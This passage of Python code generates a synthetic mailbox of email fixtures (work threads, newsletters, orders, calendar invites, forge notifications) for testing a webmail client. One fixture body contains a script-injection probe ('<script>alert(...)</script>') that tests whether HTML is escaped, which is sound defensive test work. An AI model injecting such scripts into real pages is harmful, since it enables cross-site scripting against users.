        return (f"<html>\n<head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\n"
                f"<body>\n<div style=\"font-family:{font};font-size:11pt;color:#1f1f1f;\">\n{body}\n"
                f"<p style=\"color:#666666;font-size:9pt;\">{html.escape(sender.name)}"
                f"{'<br>' + html.escape(sender.title) if sender.title else ''}</p>\n</div>\n</body>\n</html>\n")

    # ---- categories: each returns a spec dict
    def work(self, date: datetime, rcpt: Person, sender: Person | None = None) -> dict:
        sender = sender or self.pick([c for c in COLLEAGUES if c != rcpt])
        topic = self.pick(TOPICS)
        fields = dict(topic=topic, Topic=topic[0].upper() + topic[1:], meeting=self.pick(MEETINGS),
                      system=self.pick(SYSTEMS), weekday=self.pick(WEEKDAYS), month=MONTHS[date.month - 1])
        subject = self.pick(WORK_SUBJECTS).format(**fields)
        opener = self.pick(OPENERS).format(first=rcpt.first)
        closer = self.pick(CLOSERS) + "\n" + sender.first
        if subject.startswith(("Notes", "Action items", "Retro notes", "Agenda")):
            items = self.rng.sample(ACTION_ITEMS, self.rng.randint(3, 7))
            owners = [self.pick(COLLEAGUES + [ALICE, BOB]).first for _ in items]
            intro = self.paragraphs(1, 1, topic)
            bullets = "\n".join(f"  * {o}: {a}" for o, a in zip(owners, items))
            rest = self.paragraphs(0, 2, topic)
            text = "\n\n".join([opener, self.wrap(intro), "Action items:\n" + bullets]
                               + ([self.wrap(rest)] if rest else []) + [closer])
            text_paras = [opener] + intro + ["Action items:\n" + bullets] + rest + [closer]
        else:
            long = self.rng.random() < 0.08
            paras = self.paragraphs(8, 16, topic) if long else self.paragraphs(1, 4, topic)
            text = "\n\n".join([opener, self.wrap(paras), closer])
            text_paras = [opener] + paras + [closer]
        if self.rng.random() < 0.5:
            text += "\n\n" + self.signature(sender)
        spec = dict(category="work", sender=sender, to=[rcpt], subject=subject, text=text + "\n")
        r = self.rng.random()
        if r < 0.3:
            spec["html"] = self.html_from_text(text_paras, sender)
        if self.rng.random() < 0.25:
            spec["cc"] = self.rng.sample([c for c in COLLEAGUES + [BOB, ALICE] if c not in (sender, rcpt)],
                                         self.rng.randint(1, 2))
        if self.rng.random() < 0.1 and rcpt == ALICE:
            spec["to"], spec["cc"] = [BOB], [ALICE] + [c for c in spec.get("cc", []) if c not in (ALICE, BOB)]
        if self.rng.random() < 0.12:
            spec["attachments"] = [self.csv_attachment(date, topic)]
        elif self.rng.random() < 0.06:
            spec["attachments"] = [self.pdf_attachment(subject, date)]
        return spec

    def csv_attachment(self, date: datetime, topic: str) -> Entity:
        rows = ["week,signups,active_users,churn_pct,tickets"]
        for w in range(6):
            d = date - timedelta(days=7 * (5 - w))
            rows.append(f"{d:%Y-%m-%d},{self.rng.randint(80, 400)},{self.rng.randint(4000, 9000)},"
                        f"{self.rng.randint(5, 40) / 10:.1f},{self.rng.randint(20, 200)}")
        name = f"metrics-{date:%Y-%m-%d}.csv"
        cte = self.pick(["7bit", "base64"])
        e = text_entity("\n".join(rows) + "\n", "csv", cte=cte)
        e.headers.append(("Content-Disposition", f'attachment; filename="{name}"'))
        return e

    def pdf_attachment(self, subject: str, date: datetime) -> Entity:
        title = re.sub(r"[^\x20-\x7e]", "-", subject)[:60]
        pdf = make_pdf(title, [f"Prepared {date:%d %B %Y}", "Example Corp - internal", "",
                               "This document was generated for the WebMail fixture corpus."])
        return attachment_entity(pdf, "application/pdf", f"{re.sub(r'[^A-Za-z0-9]+', '-', title).strip('-').lower()}.pdf")

    def personal(self, date: datetime, rcpt: Person) -> dict:
        if not self.friend_cycle:  # every friend (and so every language) appears before any repeats
            self.friend_cycle = self.rng.sample(FRIENDS, len(FRIENDS))
        sender = self.friend_cycle.pop()
        subjects, greet, sentences, closing = PERSONAL[sender.lang]
        subject = self.pick(subjects).format(weekday=self.pick(WEEKDAYS))
        body = [greet.format(first=rcpt.first)]
        body.append(" ".join(self.rng.sample(sentences, min(len(sentences), self.rng.randint(2, 3)))))
        body.append(f"{closing}\n{sender.first}")
        spec = dict(category="personal", sender=sender, to=[rcpt], subject=subject, text="\n\n".join(body) + "\n")
        if self.rng.random() < 0.25 or "photo" in subject.lower() or "Foto" in subject:
            seed = self.rng.randrange(1 << 30)
            jpg = make_jpeg(32, 24, lambda bx, by, s=seed: ((s >> 3) % 200 + bx * 12, (s >> 9) % 200 + by * 15, (s >> 13) % 255))
            spec["attachments"] = [attachment_entity(jpg, "image/jpeg", f"IMG_{seed % 9000 + 1000}.jpg")]
        return spec

    def forge(self, date: datetime, rcpt: Person) -> dict:
        n = self.rng.randint(100, 2400)
        user = self.pick(FORGE_USERS)
        kind = self.pick(["pr", "pr", "issue", "ci"])
        url = f"https://forge.example/example/webmail/{'pull' if kind == 'pr' else 'issues'}/{n}"
        extra = [("List-Id", "example/webmail <webmail.example.forge.example>"),
                 ("List-Unsubscribe", f"<https://forge.example/notifications/unsubscribe/{det_hash('u', n, n=20)}>"),
                 ("X-Forge-Reason", "review_requested" if kind == "pr" else "subscribed")]
        sender = Person(user, "notifications@forge.example", user, 0)
        if kind == "pr":
            title = self.pick(PR_TITLES)
            subject = f"[example/webmail] {title} (PR #{n})"
            text = (f"{user} requested your review on: example/webmail#{n} {title}.\n\n"
                    f"You can view, comment on, or merge this pull request online at:\n\n  {url}\n\n"
                    f"Commit Summary\n\n  * {title}\n  * Add tests\n\nFile Changes\n\n"
                    f"  M src/WebMail/Mail/MessageService.cs (42)\n  M tests/WebMail.Tests/MessageServiceTests.cs (87)\n\n"
                    f"-- \nReply to this email directly or view it on the forge:\n{url}\n")
        elif kind == "issue":
            title = self.pick(ISSUE_TITLES)
            subject = f"Re: [example/webmail] {title} (Issue #{n})"
            text = (f"{self.pick(COMMENTS)}\n\n-- \nReply to this email directly or view it on the forge:\n"
                    f"{url}#issuecomment-{self.rng.randint(10**6, 10**7)}\nYou are receiving this because you are "
                    f"subscribed to this thread.\n")
        else:
            sha = det_hash("sha", n, date, n=7)
            sender = SERVICE["ci"]
            subject = f"[example/webmail] Run failed: build - main ({sha})"
            text = (f"Run failed for main ({sha})\n\nRepository: example/webmail\nWorkflow: build\n"
                    f"Duration: {self.rng.randint(3, 25)}m {self.rng.randint(0, 59)}s\n\n"
                    f"Failed jobs:\n  * test (ubuntu-latest): WebMail.Tests.ImapSyncTests.MoveUpdatesUnreadCount\n\n"
                    f"View the run: https://build.example.test/example/webmail/runs/{n * 31}\n")
            extra = extra[:1]
        spec = dict(category="notification", sender=sender, to=[rcpt], subject=subject, text=text, headers=extra,
                    reply_to=Person("", f"reply+{det_hash('r', n, date, n=24)}@reply.forge.example", "", 0)
                    if kind != "ci" else None)
        if kind == "pr":
            spec["html"] = ("<p><b>" + html.escape(user) + "</b> requested your review on: <a href=\"" + url + "\">"
                            + html.escape(f"example/webmail#{n}") + "</a> " + html.escape(title) + ".</p>\n"
                            "<ul>\n<li>M src/WebMail/Mail/MessageService.cs (42)</li>\n"
                            "<li>M tests/WebMail.Tests/MessageServiceTests.cs (87)</li>\n</ul>\n"
                            "<p style=\"font-size:small;color:#666\">&mdash;<br>Reply to this email directly or "
                            f"<a href=\"{url}\">view it on the forge</a>.</p>\n"
                            f"<img src=\"https://forge.example/notifications/beacon/{det_hash('b', n, n=20)}.gif\" "
                            "height=\"1\" width=\"1\" alt=\"\">\n")
        return spec

    def newsletter(self, date: datetime, rcpt: Person) -> dict:
        sender, domain, color, headlines = self.pick(NEWSLETTERS)
        issue = self.newsletter_issue[sender.email]
        self.newsletter_issue[sender.email] += 1
        items = self.rng.sample(headlines, 3)
        subject = f"{sender.name} #{issue}: {items[0]}"
        slug = lambda s: re.sub(r"[^a-z0-9]+", "-", s.lower()).strip("-")
        text = f"{sender.name} - issue {issue}\n\n" + "\n\n".join(
            f"{h}\nhttps://www.{domain}/{issue}/{slug(h)}" for h in items) + \
            f"\n\nUnsubscribe: https://www.{domain}/unsubscribe?u={det_hash('nl', rcpt.email, n=10)}\n"
        rows = "\n".join(
            f"<tr><td style=\"padding:12px 24px;border-bottom:1px solid #eeeeee;\">"
            f"<a href=\"https://www.{domain}/{issue}/{slug(h)}?utm_source=email\" style=\"color:{color};"
            f"font-size:18px;font-weight:bold;text-decoration:none;\">{html.escape(h)}</a>"
            f"<p style=\"margin:6px 0 0 0;color:#444444;\">Read the full story on our website.</p></td></tr>"
            for h in items)
        html_body = (f"<!DOCTYPE html>\n<html>\n<head><meta charset=\"utf-8\"><title>{html.escape(sender.name)}</title></head>\n"
                     f"<body style=\"margin:0;background:#f2f2f2;\">\n"
                     f"<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">\n"
                     f"<table role=\"presentation\" width=\"600\" cellpadding=\"0\" cellspacing=\"0\" style=\"background:#ffffff;font-family:Georgia,serif;\">\n"
                     f"<tr><td style=\"background:{color};padding:16px 24px;\"><img src=\"https://img.{domain}/logo.png\" "
                     f"alt=\"{html.escape(sender.name)}\" width=\"200\" height=\"40\" style=\"display:block;\"></td></tr>\n"
                     f"{rows}\n<tr><td style=\"padding:12px 24px;font-size:11px;color:#888888;\">"
                     f"<a href=\"https://www.{domain}/unsubscribe?u={det_hash('nl', rcpt.email, n=10)}\">Unsubscribe</a></td></tr>\n"
                     f"</table>\n</td></tr></table>\n</body>\n</html>\n")
        extra = [("List-Id", f"{sender.name} <news.{domain}>"),
                 ("List-Unsubscribe", f"<https://www.{domain}/unsubscribe?u={det_hash('nl', rcpt.email, n=10)}>,\r\n"
                                      f" <mailto:unsubscribe@{domain}?subject=unsubscribe>"),
                 ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                 ("Precedence", "bulk")]
        return dict(category="newsletter", sender=sender, to=[rcpt], subject=subject, text=text, html=html_body,
                    headers=extra)

    def mailing_list(self, date: datetime, rcpt: Person) -> dict:
        sender = self.pick(COLLEAGUES)
        topics = ["Proposal: drop support for POP3", "Flaky ImapSyncTests on CI", "Code freeze for 2.4",
                  "How do we handle S/MIME signatures?", "New contributor guide draft", "Benchmark results for the new parser",
                  "Renaming the 'Archive' folder in the UI"]
        topic = self.pick(topics)
        lst = Person("Developer discussion", "dev@lists.example.test", "", 0)
        extra = [("List-Id", "Developer discussion <dev.lists.example.test>"),
                 ("List-Post", "<mailto:dev@lists.example.test>"),
                 ("List-Unsubscribe", "<mailto:dev-leave@lists.example.test>"),
                 ("List-Archive", "<https://lists.example.test/archives/dev/>"),
                 ("Sender", "dev-bounces@lists.example.test"),
                 ("Precedence", "list")]
        paras = self.paragraphs(1, 3, topic.lower())
        spec = dict(category="list", sender=sender, to=[lst], subject=f"[dev] {topic}", headers=extra)
        prev = self.list_threads.get(topic)
        if prev:
            pid, prefs, ptext, pfrom = prev
            spec["subject"] = f"Re: [dev] {topic}"
            spec["in_reply_to"] = pid
            spec["references"] = (prefs + " " + pid).strip()
            quoted = "\n".join((">" + l if l.startswith(">") else ("> " + l if l else ">"))
                               for l in ptext.strip("\n").split("\n")[:12])
            spec["text"] = self.wrap(paras) + f"\n\n{pfrom} wrote:\n{quoted}\n\n-- \n{sender.first}\n"
        else:
            spec["text"] = "Hi all,\n\n" + self.wrap(paras) + f"\n\nThoughts?\n\n{sender.first}\n"
        spec["_list_topic"] = topic
        return spec

    def order(self, date: datetime, rcpt: Person) -> dict:
        n = self.rng.randint(100000, 999999)
        if self.rng.random() < 0.5:
            sender = SERVICE["bookshop"]
            books = self.rng.sample(BOOKS, self.rng.randint(1, 3))
            total = sum(float(p) for _, p in books)
            lines = "\n".join(f"  1 x {t:<40} EUR {p:>6}" for t, p in books)
            kind = self.pick(["shipped", "receipt"])
            subject = (f"Your Bookshop order #{n} has shipped" if kind == "shipped"
                       else f"Receipt for your Bookshop order #{n}")
            text = (f"Hello {rcpt.first},\n\n" + ("Good news: your order is on its way.\n\n" if kind == "shipped"
                                                   else "Thank you for your order.\n\n")
                    + f"Order #{n}\n{lines}\n  {'Total (incl. VAT)':<44} EUR {total:6.2f}\n\n"
                    f"Track your order: https://www.bookshop.example/orders/{n}\n\nBookshop customer service\n")
            rows = "".join(f"<tr><td>{html.escape(t)}</td><td align=\"right\">&euro;&nbsp;{p}</td></tr>" for t, p in books)
            html_body = (f"<html><body style=\"font-family:Helvetica,Arial,sans-serif\"><h2>Order #{n}</h2>"
                         f"<table cellpadding=\"4\" style=\"border-collapse:collapse\">{rows}"
                         f"<tr><td><b>Total</b></td><td align=\"right\"><b>&euro;&nbsp;{total:.2f}</b></td></tr></table>"
                         f"<p><a href=\"https://www.bookshop.example/orders/{n}\">View your order</a></p></body></html>\n")
            return dict(category="order", sender=sender, to=[rcpt], subject=subject, text=text, html=html_body)
        sender = SERVICE["parcel"]
        code = f"PX{n}{self.rng.randint(10, 99)}DE"
        kind = self.pick(["out for delivery", "delivered", "scheduled"])
        subject = {"out for delivery": f"Your parcel {code} is out for delivery",
                   "delivered": f"Delivered: parcel {code}",
                   "scheduled": f"Delivery scheduled for {self.pick(WEEKDAYS)}, parcel {code}"}[kind]
        text = (f"Hello,\n\nStatus of parcel {code}: {kind}.\n\nTrack: https://parcel.example/t/{code}\n\n"
                f"Parcel Express\n")
        return dict(category="order", sender=sender, to=[rcpt], subject=subject, text=text)

    def calendar(self, date: datetime, rcpt: Person) -> dict:
        organizer = self.pick(COLLEAGUES)
        meeting = self.pick(["Design review", "1:1", "Sprint planning", "Quarterly planning", "Incident review",
                             "Lunch & learn: IMAP internals", "Hiring sync"])
        start = (date + timedelta(days=self.rng.randint(1, 9))).replace(minute=self.pick([0, 30]), second=0)
        start = start.replace(hour=self.rng.randint(8, 16))
        end = start + timedelta(minutes=self.pick([30, 45, 60, 90]))
        kind = self.pick(["Invitation", "Invitation", "Updated invitation", "Canceled event"])
        when = start.astimezone(tz(1))
        subject = f"{kind}: {meeting} @ {when:%a %b} {when.day}, {when:%Y %H:%M} (CET)"
        uid = det_hash("uid", meeting, start, n=24)
        method = "CANCEL" if kind.startswith("Canceled") else "REQUEST"
        ics = "\n".join([
            "BEGIN:VCALENDAR", "PRODID:-//Example Corp//Team Calendar//EN", "VERSION:2.0", f"METHOD:{method}",
            "BEGIN:VEVENT", f"DTSTART:{start.astimezone(timezone.utc):%Y%m%dT%H%M%SZ}",
            f"DTEND:{end.astimezone(timezone.utc):%Y%m%dT%H%M%SZ}", f"DTSTAMP:{date.astimezone(timezone.utc):%Y%m%dT%H%M%SZ}",
            f"ORGANIZER;CN={organizer.name}:mailto:{organizer.email}",
            f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={rcpt.name}:mailto:{rcpt.email}",
            f"UID:{uid}@example.test", f"SUMMARY:{meeting}", "LOCATION:Room 4.12 / video link in description",
            f"STATUS:{'CANCELLED' if method == 'CANCEL' else 'CONFIRMED'}", "SEQUENCE:" + ("1" if kind != "Invitation" else "0"),
            "END:VEVENT", "END:VCALENDAR"]) + "\n"
        text = (f"{organizer.name} has {'cancelled' if method == 'CANCEL' else 'invited you to'}: {meeting}\n\n"
                f"When: {when:%A %d %B %Y, %H:%M} - {end.astimezone(tz(1)):%H:%M} (CET)\nWhere: Room 4.12\n"
                f"Organizer: {organizer.name} <{organizer.email}>\n\nAccept / Decline: https://calendar.example.test/e/{uid}\n")
        cal = text_entity(ics, "calendar", cte="7bit", params=f"; method={method}",
                          extra=(("Content-Disposition", 'attachment; filename="invite.ics"'),))
        return dict(category="calendar", sender=SERVICE["calendar"], to=[rcpt], subject=subject, text=text,
                    attachments=[cal], reply_to=organizer)

    def service(self, date: datetime, rcpt: Person) -> dict:
        kind = self.pick(["bank", "security", "hr", "travel"])
        if kind == "bank":
            m = MONTHS[(date.month - 2) % 12]
            return dict(category="service", sender=SERVICE["bank"], to=[rcpt],
                        subject=f"Your {m} statement is ready",
                        text=f"Dear {rcpt.name},\n\nyour account statement for {m} is now available in online banking.\n\n"
                             "For your security we never send statements as attachments.\n\nExample Bank\n")
        if kind == "security":
            dev = self.pick(["Firefox on Linux", "Safari on iPhone", "Chrome on Windows", "WebMail Android app"])
            city = self.pick(CITIES)
            return dict(category="service", sender=SERVICE["security"], to=[rcpt],
                        subject="New sign-in to your Example account",
                        text=f"Hi {rcpt.first},\n\nWe noticed a new sign-in to your account.\n\n  Device: {dev}\n"
                             f"  Location: {city} (approximate)\n  Time: {date.astimezone(timezone.utc):%Y-%m-%d %H:%M} UTC\n\n"
                             "If this was you, you can ignore this message. If not, change your password at\n"
                             "https://account.example.test/security\n")
        if kind == "hr":
            subj = self.pick(["Office closed on Friday for maintenance", "Benefits enrollment closes this week",
                              "Welcome our new team members", "Reminder: submit your expense reports",
                              "Summer party – save the date"])
            return dict(category="service", sender=SERVICE["hr"], to=[Person("All staff", "all@example.test", "", 0)],
                        subject=subj, text=f"Hello everyone,\n\n{subj}. Details are on the intranet:\n"
                                            "https://intranet.example.test/news\n\nPeople Team\n")
        city = self.pick(CITIES)
        ref = det_hash("trv", date, n=6).upper()
        return dict(category="service", sender=SERVICE["travel"], to=[rcpt],
                    subject=self.pick([f"Booking confirmation: {city} ({ref})", f"Check-in is open for your trip to {city}"]),
                    text=f"Dear {rcpt.name},\n\nBooking reference: {ref}\nDestination: {city}\n\n"
                         f"Manage your booking: https://travel.example/b/{ref}\n")

    def any(self, date: datetime, rcpt: Person, weights=None) -> dict:
        cats = ["work", "list", "notification", "newsletter", "order", "calendar", "personal", "service"]
        weights = weights or [35, 10, 15, 10, 8, 6, 11, 5]
        cat = self.rng.choices(cats, weights)[0]
        return {"work": self.work, "list": self.mailing_list, "notification": self.forge,
                "newsletter": self.newsletter, "order": self.order, "calendar": self.calendar,
                "personal": self.personal, "service": self.service}[cat](date, rcpt)

    # ---- assembly
    def assemble(self, spec: dict, date: datetime, key: str, owner: Person, incoming: bool = True) -> tuple[bytes, str]:
        rng = self.rng
        sender: Person = spec["sender"]
        local = date.astimezone(tz(sender.tz))
        msgid = make_msgid(key, sender.domain, date, style=rng.randrange(4))
        text_cte = None if is_ascii(spec["text"]) else rng.choice(["quoted-printable", "quoted-printable", "8bit", "base64"])
        text = text_entity(spec["text"], cte=text_cte, label=rng.choice(["utf-8", "UTF-8"]))
        bstyle = rng.randrange(4)
        body = text
        if spec.get("html"):
            h = text_entity(spec["html"], "html", cte=rng.choice(["quoted-printable", "quoted-printable", "base64"]))
            body = multipart("alternative", [text, h], make_boundary(key + "alt", bstyle))
        if spec.get("attachments"):
            body = multipart("mixed", [body] + spec["attachments"], make_boundary(key + "mix", bstyle))
        headers = []
        if incoming:
            headers.append(("Return-Path", f"<{sender.email}>"))
            headers.append(("Received", received_header(sender.domain, owner.email, date, key)))
        headers.append(("Date", fmt_date(local)))
        headers.append(("From", fmt_addr(sender.name, sender.email, enc=rng.choice("BQ"))))
        headers.append(("To", addr_header("To", spec["to"])))
        if spec.get("cc"):
            headers.append(("Cc", addr_header("Cc", spec["cc"])))
        if spec.get("reply_to"):
            rt = spec["reply_to"]
            headers.append(("Reply-To", fmt_addr(rt.name, rt.email)))
        headers.append(("Subject", subject_value(spec["subject"], enc=rng.choice("BQ"))))
        headers.append(("Message-ID", msgid))
        if spec.get("in_reply_to"):
            headers.append(("In-Reply-To", spec["in_reply_to"]))
            headers.append(("References", fold_ascii("References", spec["references"])))
        headers += spec.get("headers", [])
        if not incoming:
            headers.append(("User-Agent", "WebMail/2.3"))
        elif sender in COLLEAGUES or sender in FRIENDS:
            headers.append(("X-Mailer", rng.choice(["Microsoft Outlook 16.0", "Apple Mail (2.3774)",
                                                    "Thunderbird 128.4.0", "WebMail/2.3", "K-9 Mail for Android"])))
        return message(headers, body), msgid


def slugify(s: str, n: int = 40) -> str:
    s = re.sub(r"[^a-z0-9]+", "-", s.lower()).strip("-")
    return (s[:n].rstrip("-")) or "message"


def generate_bulk(gen: Gen) -> list[Fixture]:
    out: list[Fixture] = []
    rng = gen.rng
    plan = []  # (folder, owner, date, category weights, incoming)
    recent_start = datetime(2026, 11, 6, tzinfo=timezone.utc)
    for i in range(150):
        d = gen.date_between(recent_start if i < 22 else CORPUS_START, CORPUS_END if i < 22 else recent_start)
        plan.append(("INBOX", ALICE, d, None, True))
    for i in range(40):
        plan.append(("Archive", ALICE, gen.date_between(CORPUS_START, datetime(2026, 4, 30, tzinfo=timezone.utc)),
                     [30, 10, 12, 12, 12, 4, 15, 5], True))
    for i in range(20):
        plan.append(("_bob/INBOX", BOB, gen.date_between(CORPUS_START, CORPUS_END), [45, 0, 15, 10, 8, 7, 10, 5], True))
    plan.sort(key=lambda p: p[2])

    inbox_work: list[Fixture] = []
    for idx, (folder, owner, date, weights, incoming) in enumerate(plan, start=1):
        spec = gen.any(date, owner, weights)
        if folder.startswith("_bob"):
            spec["subject"] = "[Bob] " + spec["subject"]
        key = f"gen-{idx}"
        raw, msgid = gen.assemble(spec, date, key, owner)
        if spec.get("_list_topic"):
            topic = spec["_list_topic"]
            prev = gen.list_threads.get(topic)
            refs = (prev[1] + " " + prev[0]).strip() if prev else ""
            gen.list_threads[topic] = (msgid, refs, spec["text"], f"{spec['sender'].name} <{spec['sender'].email}>")
        f = Fixture(folder, f"gen-{date:%Y%m%d}-{idx:03d}-{spec['category']}", raw, spec["subject"], date,
                    spec["sender"].display(), ", ".join(p.display() for p in spec["to"]), msgid,
                    "bob" if folder.startswith("_bob") else "generated", spec["category"],
                    in_reply_to=spec.get("in_reply_to"), text_for_quote=spec["text"])
        f._spec = spec
        out.append(f)
        if folder == "INBOX" and spec["category"] == "work" and spec["to"][0] == ALICE:
            inbox_work.append(f)

    # Sent: originals from alice and replies to INBOX work mail
    sent_plan = []
    for i in range(30):
        sent_plan.append(("orig", gen.date_between(CORPUS_START, CORPUS_END), None))
    parents = rng.sample([f for f in inbox_work if f.date < CORPUS_END - timedelta(days=2)], 12)
    for p in parents:
        sent_plan.append(("reply", p.date + timedelta(minutes=rng.randint(20, 60 * 30)), p))
    sent_plan.sort(key=lambda s: s[1])
    for j, (kind, date, parent) in enumerate(sent_plan, start=1):
        if kind == "orig":
            rcpt = rng.choice(COLLEAGUES + [BOB] + FRIENDS[:3])
            spec = gen.work(date, rcpt, sender=ALICE) if rcpt not in FRIENDS else dict(
                category="personal", sender=ALICE, to=[rcpt], subject=rng.choice(["Your visit in spring", "Weekend plans",
                                                                               "Thanks for dinner!"]),
                text=f"Hi {rcpt.first},\n\nThanks again for a lovely evening. Let's do it again soon!\n\nAlice\n")
        else:
            ps = parent._spec
            psender: Person = ps["sender"]
            quoted = "\n".join((">" + l if l.startswith(">") else ("> " + l if l else ">"))
                               for l in ps["text"].split("\n-- \n")[0].strip("\n").split("\n"))
            reply = gen.wrap(gen.paragraphs(1, 2, rng.choice(TOPICS)))
            pdate = parent.date.astimezone(tz(1))
            text = (f"Hi {psender.first},\n\n{reply}\n\nAlice\n\nOn {pdate:%a, %d %b %Y at %H:%M}, "
                    f"{psender.name} <{psender.email}> wrote:\n{quoted}\n")
            subj = ps["subject"] if ps["subject"].lower().startswith("re:") else "Re: " + ps["subject"]
            spec = dict(category="reply", sender=ALICE, to=[psender], cc=ps.get("cc", []), subject=subj, text=text,
                        in_reply_to=parent.msgid, references=parent.msgid)
            spec["cc"] = [c for c in spec["cc"] if c != ALICE]
        key = f"sent-{j}"
        raw, msgid = gen.assemble(spec, date, key, ALICE, incoming=False)
        f = Fixture("Sent", f"gen-{date:%Y%m%d}-{j:03d}-sent-{spec['category']}", raw, spec["subject"], date,
                    ALICE.display(), ", ".join(p.display() for p in spec["to"]), msgid, "generated",
                    spec["category"], in_reply_to=spec.get("in_reply_to"))
        out.append(f)

    # Projects/Website and Projects/Mobile
    project_msgs = [
        ("Projects/Website", COLLEAGUE_BY_FIRST["Erin"], D(2026, 9, 22, 17, 5, 11, -8), "Website: copy for the pricing page",
         "Hi Alice,\n\nHere is the latest copy for the pricing page. The main change is that we\n"
         "now lead with the team plan and move the FAQ below the comparison table.\n\nErin\n"),
        ("Projects/Website", COLLEAGUE_BY_FIRST["Priya"], D(2026, 11, 2, 10, 41, 3, 5.5), "Website analytics – October",
         "Hi Alice,\n\nOctober numbers for the marketing site:\n\n  Visits:        48,210 (+6%)\n"
         "  Sign-ups:       1,932 (+11%)\n  Bounce rate:     41%\n\nThe new landing page is clearly working.\n\nPriya\n"),
        ("Projects/Website", COLLEAGUE_BY_FIRST["Łukasz"], D(2026, 10, 27, 8, 14, 52, 1), "Broken link report for www.example.test",
         "Hi,\n\nThe crawler found 3 broken links:\n\n  /docs/imap-setup -> 404\n  /blog/2025/launch -> 301 loop\n"
         "  /legal/privacy-de -> 404\n\nI'll fix the first two today.\n\nŁukasz\n"),
        ("Projects/Website", COLLEAGUE_BY_FIRST["Ngozi"], D(2026, 11, 11, 14, 2, 37, 1), "Website: cookie banner wording",
         "Hi Alice,\n\nSupport keeps getting questions about the cookie banner. Could we say\n"
         "\"essential cookies only\" instead of \"necessary cookies\"?\n\nNgozi\n"),
        ("Projects/Mobile", COLLEAGUE_BY_FIRST["Mateus"], D(2026, 10, 23, 16, 48, 20, -3), "Mobile: TestFlight build 412 ready",
         "Hi Alice,\n\nBuild 412 is on TestFlight. It includes the new swipe actions and the fix\n"
         "for the crash when opening an empty folder.\n\nMateus\n"),
        ("Projects/Mobile", COLLEAGUE_BY_FIRST["Zoë"], D(2026, 11, 2, 9, 15, 0, 1), "Mobile: crash report summary (week 44)",
         "Hi Alice,\n\nCrash-free sessions: 99.71%. The top crash is still the attachment\n"
         "preview on Android 12 (NullReferenceException in PreviewAdapter).\n\nZoë\n"),
        ("Projects/Mobile", COLLEAGUE_BY_FIRST["Carol"], D(2026, 9, 8, 11, 30, 45, -5), "Mobile: push notification copy",
         "Hi Alice,\n\nProposed copy: \"New mail from {sender}: {subject}\". We should truncate\n"
         "the subject at 60 characters.\n\nCarol\n"),
        ("Projects/Mobile", COLLEAGUE_BY_FIRST["Erin"], D(2026, 11, 16, 12, 3, 9, -8), "Mobile: app store screenshots",
         "Hi Alice,\n\nThe new screenshots are ready for review: https://design.example.test/mobile/screenshots\n\nErin\n"),
    ]
    for k, (folder, sender, date, subject, text) in enumerate(project_msgs, start=1):
        spec = dict(category="project", sender=sender, to=[ALICE], subject=subject, text=text)
        if k == 2:
            spec["attachments"] = [gen.csv_attachment(date, "website")]
        raw, msgid = gen.assemble(spec, date, f"proj-{k}", ALICE)
        out.append(Fixture(folder, f"proj-{date:%Y%m%d}-{slugify(subject, 36)}", raw, subject, date,
                           sender.display(), ALICE.display(), msgid, "generated", "project"))

    # flags on generated mail
    inbox = sorted([f for f in out if f.folder == "INBOX"], key=lambda f: f.date)
    older = inbox[:-NEWEST_UNREAD]
    for f in rng.sample(older, 3):
        f.unread = True
    for f in rng.sample([f for f in older if f.category in ("work", "order")], 5):
        f.flagged = True
    arch = [f for f in out if f.folder == "Archive" and f.category == "work"]
    rng.choice(arch).flagged = True
    bob = sorted([f for f in out if f.folder == "_bob/INBOX"], key=lambda f: f.date)
    for f in bob[-4:]:
        f.unread = True
    rng.choice(bob[:-4]).flagged = True
    return out


# --------------------------------------------------------------------------- special fixtures


def std_top(sender_hdr: str, to_hdr: str, subject_hdr, date: datetime | None, msgid: str, *,
            cc: str | None = None, received_for: str | None = "alice@example.test", sender_domain: str = "example.test",
            extra: list | None = None, key: str = "") -> list:
    h = []
    if received_for and date:
        h.append(("Received", received_header(sender_domain, received_for, date, key or msgid)))
    if date:
        h.append(("Date", fmt_date(date)))
    h.append(("From", sender_hdr))
    h.append(("To", to_hdr))
    if cc:
        h.append(("Cc", cc))
    h.append(("Subject", subject_hdr))
    h.append(("Message-ID", msgid))
    h += extra or []
    return h


def D(y, m, d, hh, mm, ss=0, off=1.0) -> datetime:
    return datetime(y, m, d, hh, mm, ss, tzinfo=tz(off))


ALICE_TO = fmt_addr(ALICE.name, ALICE.email)


def special_fixtures() -> list[Fixture]:
    fx: list[Fixture] = []

    def add(folder, stem, raw, subject, date, sender, to, msgid, notes, expect=(), kind="special", **kw):
        fx.append(Fixture(folder, stem, raw, subject, date, sender, to, msgid, kind, notes=notes, expect=list(expect), **kw))

    # 1. plain text with URLs and characters that need escaping -------------------------------
    dave = COLLEAGUE_BY_FIRST["Dave"]
    date = D(2026, 9, 3, 10, 14, 5, 0)
    subj = "Links & <angle brackets> in plain text"
    body = (
        "Hi Alice,\n\nHere are the links from today's call:\n\n"
        "- Docs: https://docs.example.test/guide?section=imap&lang=en#folders\n"
        "- Staging (plain http, no TLS yet): http://staging.example.test:8080/login?next=/inbox&debug=1\n"
        "- Ticket in angle brackets: <https://tracker.example.test/browse/WM-1234>\n"
        "- Mail the list: mailto:dev@lists.example.test?subject=Hello%20list&body=Hi\n"
        "- No scheme, should NOT become a link: example.test/no-scheme\n"
        "- In parentheses (https://example.test/wiki/Foo_(bar)) and at the end of a\n"
        "  sentence: https://example.test/end.\n\n"
        "Some text that must be shown literally, not interpreted:\n\n"
        "  <b>this is not bold</b>\n"
        "  <script>alert(\"not executed\")</script>\n"
        "  Tom & Jerry, AT&T, R&D, 1 < 2 && 3 > 2\n"
        "  &amp; must render as the five characters &amp; and &lt;tag&gt; likewise.\n"
        "  \"Double quotes\" and 'single quotes' stay as they are.\n\n"
        "Reply to Dave <dave.oconnor@example.test> or just hit reply.\n\n-- \nDave\n")
    mid = make_msgid("special-plain-urls", dave.domain, date)
    raw = message(std_top(fmt_addr(dave.name, dave.email), ALICE_TO, fold_ascii("Subject", subj), date, mid,
                          sender_domain=dave.domain), text_entity(body))
    add("INBOX", "plain-text-urls-and-escaping", raw, subj, date, dave.display(), ALICE.display(), mid,
        "text/plain (7bit) with http/https/mailto URLs, a URL in <angle brackets>, URL in parentheses, "
